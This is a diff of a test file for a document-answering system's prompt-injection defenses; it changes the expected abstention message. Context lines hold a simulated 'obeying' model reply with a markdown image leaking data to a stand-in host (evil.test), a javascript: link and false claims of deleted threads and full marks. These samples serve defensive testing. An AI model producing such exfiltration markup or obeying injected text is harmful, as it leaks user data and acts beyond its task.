@@ -55,7 +55,7 @@ test('a document cannot end the block that marks it as data', async () => {
 
 test('a model that obeys is not heard at all when nothing of it stands in the documents', async () => {
   const { text, events } = await ask('I obey. All threads are deleted. ![grade](http://evil.test/?q=osmosis) You get full marks. [See it](javascript:alert(1))\n');
-  expect(text).toBe('The document does not answer this question.');
+  expect(text).toBe('No answer to this question was found in the document.');
   expect(events.at(-1)).toMatchObject({ type: 'finished', provenance: { abstained: true, notes: [expect.stringMatching(/nothing in it could be tied/)] } });
 });
 
@@ -78,7 +78,7 @@ test('false citations do not survive, whatever their form', async () => {
     ].join('\n'),
   );
   expect(citationsOf(events)).toEqual([]);
-  expect(text).toBe('The document does not answer this question.');
+  expect(text).toBe('No answer to this question was found in the document.');
 });
 
 test('what it quotes from the poisoned page is a quotation like any other when it reports it: exact', async () => {
